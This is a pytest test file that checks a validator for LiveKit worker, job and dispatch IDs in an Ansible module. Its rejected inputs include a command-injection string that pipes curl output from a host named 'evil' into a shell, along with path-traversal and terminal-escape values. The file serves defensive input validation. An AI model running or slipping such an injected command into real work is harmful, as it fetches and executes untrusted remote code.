"""Only what a LiveKit server makes is an id."""

from __future__ import annotations

from typing import Any

import pytest
from ansible.module_utils.livekit_deploy.common import ids


@pytest.mark.parametrize("value", ["AW_kavsLX8sqGQ5", "CAW_kavsLX8sqGQ5", "AW_1"])
def test_worker_id_of_a_server_is_one(value: str) -> None:
    assert ids.worker(value) == value


@pytest.mark.parametrize(
    "value",
    [
        "AW_1; curl evil | sh #",
        "AW_",
        "AW_ä",
        "AW_1\n",
        "XAW_1",
        "AJ_1",
        "AW_1\x1b[2J",
        f"AW_{'a' * 33}",
        "AW_../x",
        None,
        1,
        ["AW_1"],
        {},
    ],
)
def test_anything_else_is_none(value: Any) -> None:
    assert ids.worker(value) is None


def test_jobs_and_dispatches_have_prefixes_of_their_own() -> None:
    assert (ids.job("AJ_a"), ids.job("AD_a"), ids.dispatch("AD_a"), ids.dispatch("AJ_a")) == (
        "AJ_a",
        None,
        "AD_a",
        None,
    )
